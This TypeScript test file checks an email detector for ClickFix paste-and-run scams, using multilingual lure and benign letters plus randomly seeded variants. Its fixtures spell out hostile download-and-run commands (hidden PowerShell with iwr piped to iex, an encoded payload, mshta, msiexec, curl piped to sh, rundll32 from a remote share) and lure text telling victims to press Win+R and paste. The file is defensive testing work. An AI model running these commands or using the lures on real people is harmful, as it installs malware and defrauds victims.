import { test } from 'node:test';
import assert from 'node:assert/strict';
import { mulberry32 } from '../../classifier/logistic.js';
import { COMMAND_WORDS } from '../../files/html/clipboard.js';
import { LAUNCHER_WORDS, pasteAndRun } from '../../mail/paste-and-run.js';
import type { ParsedMessage } from '../../mail/types.js';
import { COMMAND_WORD_LIST, commandToRun, pasteAndRunReading } from './paste-and-run.js';
import { headRead } from './scam-structure.js';
import { gramGate, gramsMayMatch } from './head-grams.js';

/**
 * Session 62 (issue 18, cpu63): pasteAndRunReading asks headRead's trigrams before LAUNCHER_WORD_ANY_CASE and
 * COMMAND_WORDS_ANY_CASE run over the text. Its answers are the ungated readings' — pasteAndRun(text), then commandToRun(text)
 * — on written letters (must-fire and must-not, en de fr es pt nl ja) and on seeded letters built from the launchers', the
 * commands' and the pretexts' own words (whole, cut, a letter changed, in upper case, written with İ, K, ſ, accents, full-width
 * letters or a no-break space), some longer than headRead reads; both gates say "no" often and both readings fire often.
 */
const letter = (visibleText: string, subject = 'Hello'): ParsedMessage => ({ subject, visibleText, text: visibleText, html: '' }) as unknown as ParsedMessage;
const ungated = (text: string): { stretch: string | null; command: string | null } => {
  const stretch = pasteAndRun(text);
  return { stretch, command: stretch ? null : commandToRun(text) };
};

const ROWS: readonly [string, 'stretch' | 'command' | null][] = [
  ['To verify you are human, press Windows key + R, then press Ctrl+V and Enter.', 'stretch'],
  ['Bestätigen Sie, dass Sie ein Mensch sind: Windows-Taste + R drücken, dann Strg+V einfügen und Enter.', 'stretch'],
  ['Pour vérifier que vous êtes humain : appuyez sur touche Windows + R, collez avec Ctrl+V puis Entrée.', 'stretch'],
  ['Para verificar que es humano, pulse tecla Windows + R, pegue con Ctrl+V y pulse Intro.', 'stretch'],
  ['Para verificar que você é humano, pressione tecla Windows + R, cole com Ctrl+V e pressione Enter.', 'stretch'],
  ['Om te verifiëren dat u een mens bent: druk op Windows-toets + R, plak met Ctrl+V en druk op Enter.', 'stretch'],
  ['ロボットでないことを確認するため、Windowsキー+Rを押し、Ctrl+Vで貼り付けてEnterを押してください。', 'stretch'],
  ['To fix the error and prove you are human, run: powershell -w hidden -c "iwr http://203.0.113.9/a.ps1 | iex"', 'command'],
  ['Um den Fehler zu beheben, führen Sie aus: powershell -w hidden -enc SQBFAFgAIAAoAE4AZQB3AC0ATwBiAGoAZQBjAHQA', 'command'],
  ['Pour corriger l\u2019erreur : mshta https://example.com/fix.hta', 'command'],
  // The Kelvin sign is k in lower case: the command's only launcher word is spelled with it (headRead's oddLetters).
  ['To fix the error, run: INVO\u212aE-WEBREQUEST http://203.0.113.9/a.ps1 | iex', 'command'],
  ['The meeting is tomorrow at ten; the minutes are attached. Regards, the team.', null],
  ['Ihre Rechnung ist angehängt. Bitte bestätigen Sie den Empfang. Mit freundlichen Grüßen', null],
  ['Merci de confirmer votre inscription au séminaire de jeudi.', null],
  ['Gracias por su pedido; lo enviaremos mañana.', null],
  ['Obrigado pela sua compra. O recibo está em anexo.', null],
  ['Bedankt voor uw bericht, we nemen snel contact op.', null],
  ['会議の議事録を添付します。よろしくお願いします。', null],
  ['Install with: irm get.scoop.sh | iex (see the documentation).', null],
  ['Never press Windows key + R and paste anything a web page asks you to: that is the ClickFix scam.', null],
];

test('pasteAndRunReading: the written letters', () => {
  for (const [text, expected] of ROWS) {
    const got = pasteAndRunReading(letter(text));
    assert.deepEqual(got, ungated(text), text);
    assert.equal(got.stretch !== null ? 'stretch' : got.command !== null ? 'command' : null, expected, text);
  }
});

test("COMMAND_WORD_LIST holds every word of clipboard.ts's COMMAND_WORDS, and the gates their words' trigrams", () => {
  const words = COMMAND_WORDS.source.replace(/\\b|\(\?:|\)/g, '').split('|');
  for (const w of words) assert.ok(COMMAND_WORD_LIST.includes(w), w);
  const lower = (s: string) => s.toLowerCase();
  for (const w of [...COMMAND_WORD_LIST, ...LAUNCHER_WORDS.filter((x) => /^[\x00-\x7f]*$/.test(x))]) {
    const read = headRead(letter(`a ${w.toUpperCase()} b`));
    assert.ok(gramsMayMatch(gramGate([lower(w)]), read.grams), w);
  }
});

const WORDS = [
  ...LAUNCHER_WORDS, ...COMMAND_WORD_LIST, 'windows', 'Windows key', 'Windows-Taste', 'touche Windows', 'tecla Windows', 'Windows-toets', 'tasto Windows',
  'Windowsキー', '+', '+ R', '+R', 'and R', 'r', 'x', 'e', 'Ctrl+V', 'Strg+V', 'ctrl + v', 'paste', 'einfügen', 'coller', 'pegar', 'colar', 'plakken', 'incolla',
  '貼り付け', 'verify', 'verification', 'human', 'robot', 'captcha', 'Mensch', 'humain', 'humano', 'umano', 'ロボット', 'fix', 'error', 'Fehler', 'erreur',
  'copied', 'has been copied', 'wurde kopiert', 'a été copié', 'copy fix', 'never', 'nie', 'jamais', 'attackers', 'windows terminal', 'command prompt',
  'file explorer', 'open terminal', 'powershell -w hidden -c', '-enc SQBFAFgAIAAoAE4AZQB3AC0ATwBiAGoAZQBjAHQA', 'iwr http://203.0.113.9/a | iex',
  'mshta https://example.com/x.hta', 'cmd /c curl http://x', 'curl http://x | sh', 'rundll32 \\\\host\\a', 'msiexec /i https://example.com/a.msi',
  'invoke-expression', 'invoke-webrequest http://x | iex', 'invoke-restmethod http://x | iex', 'irm get.scoop.sh | iex', 'confirm', 'window', 'winner', 'twin', 'prompted', 'explore',
];
const FILLER = ['the', 'meeting', 'tomorrow', 'invoice', 'regards', 'Hallo', 'bitte', 'merci', 'gracias', 'obrigado', 'dank', 'please', 'thanks', 'report'];
const ODD = ['İ', 'K', 'ſ', 'é', 'ü', 'ｗ', 'Ｒ', '\u00a0', '’', '中'];
const SEPARATORS = [' ', ' ', ' ', '\n', '. ', ', ', ': ', '-', '  ', '"'];

function word(r: () => number, ascii: boolean, dense: number): string {
  let w = r() < dense ? WORDS[Math.floor(r() * WORDS.length)]! : FILLER[Math.floor(r() * FILLER.length)]!;
  const k = r();
  if (k < 0.1) w = w.toUpperCase();
  else if (k < 0.2) w = w[0]!.toUpperCase() + w.slice(1);
  else if (k < 0.28 && w.length > 2) {
    const at = Math.floor(r() * w.length);
    const q = r();
    w = q < 0.4 ? w.slice(0, at) + w.slice(at + 1) : q < 0.7 ? w.slice(0, at) + String.fromCharCode(97 + Math.floor(r() * 26)) + w.slice(at + 1) : w.slice(0, at);
  } else if (k < 0.36 && !ascii) {
    const at = Math.floor(r() * (w.length + 1));
    w = w.includes('k') && r() < 0.3 ? w.replace('k', '\u212a') : w.includes('i') && r() < 0.3 ? w.replace('i', '\u0130') : w.slice(0, at) + ODD[Math.floor(r() * ODD.length)] + w.slice(at);
  }
  if (ascii) w = w.replace(/[^\x00-\x7f]/g, 'a');
  return w;
}

test('pasteAndRunReading: the ungated readings\' answers on seeded letters', () => {
  const r = mulberry32(62);
  const counts = { launcherNo: 0, commandNo: 0, stretch: 0, command: 0 };
  const launcherGate = gramGate(LAUNCHER_WORDS.filter((x) => /^[\x00-\x7f]*$/.test(x)));
  const commandGate = gramGate(COMMAND_WORD_LIST);
  for (let n = 0; n < 12_000; n++) {
    const ascii = r() < 0.6;
    const dense = [0.6, 0.2, 0.05, 0.01][n % 4]!;
    const words = n % 500 === 0 ? 4_000 : 1 + Math.floor(r() * 80);
    let text = '';
    for (let k = 0; k < words; k++) text += word(r, ascii, dense) + SEPARATORS[Math.floor(r() * SEPARATORS.length)]!;
    const msg = letter(text, r() < 0.2 ? word(r, ascii, dense) : 'Hello');
    const got = pasteAndRunReading(msg);
    assert.deepEqual(got, ungated(text), JSON.stringify(text.slice(0, 400)));
    const read = headRead(msg);
    if (!gramsMayMatch(launcherGate, read.grams)) counts.launcherNo++;
    if (!gramsMayMatch(commandGate, read.grams)) counts.commandNo++;
    if (got.stretch) counts.stretch++;
    if (got.command) counts.command++;
  }
  assert.ok(counts.launcherNo > 2_000 && counts.commandNo > 2_000, JSON.stringify(counts));
  assert.ok(counts.stretch > 50 && counts.command > 50, JSON.stringify(counts));
});
